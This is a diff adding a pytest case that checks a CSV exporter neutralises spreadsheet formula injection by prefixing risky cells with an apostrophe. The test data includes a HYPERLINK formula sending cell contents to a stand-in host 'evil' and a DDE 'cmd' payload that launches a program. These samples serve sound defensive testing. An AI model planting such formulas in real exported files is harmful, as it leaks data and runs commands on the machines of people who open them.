@@ -15,7 +15,7 @@ from flows.models import Execution
 from flows.runs import exports, reading
 from flows.runs.bounds import Bound
 from flows.traces import chunk as codec
-from flows.traces.tables import TABLES
+from flows.traces.tables import TABLES, Table
 from tests.runs.conftest import SECOND
 
 pytestmark = pytest.mark.django_db(databases=["default", "checkpoints"])
@@ -63,6 +63,31 @@ def test_every_format_has_the_same_rows(ended, table):
     assert lines
     assert read(ended, table, "parquet") == flat
     assert read(ended, table, "csv") == [{name: str(value) for name, value in row.items()} for row in flat]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://evil/"&A1;"more")', '\'=HYPERLINK("http://evil/"&A1;"more")'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("a;=1+1", "a;=1+1"),
+        ("-12.5e-3", "-12.5e-3"),
+        ("+4915123", "+4915123"),
+        ("- a list", "'- a list"),
+        ('{"n": -1}', '{"n": -1}'),
+        ("", ""),
+    ],
+)
+def test_a_text_is_no_formula_in_a_spreadsheet_and_a_number_stays_one(text, cell):
+    table = Table({"text": str, "number": int}, lambda _: iter(()))
+    content = b"".join(exports.FORMATS["csv"].write(table, [[(text, -7)]])).decode()
+    assert content.startswith('"text","number"\r\n"')
+    assert content.endswith(",-7\r\n")
+    assert list(csv.DictReader(io.StringIO(content, newline=""))) == [{"text": cell, "number": "-7"}]
 
 
 def test_a_journey_is_a_message_with_all_its_copies(ended):
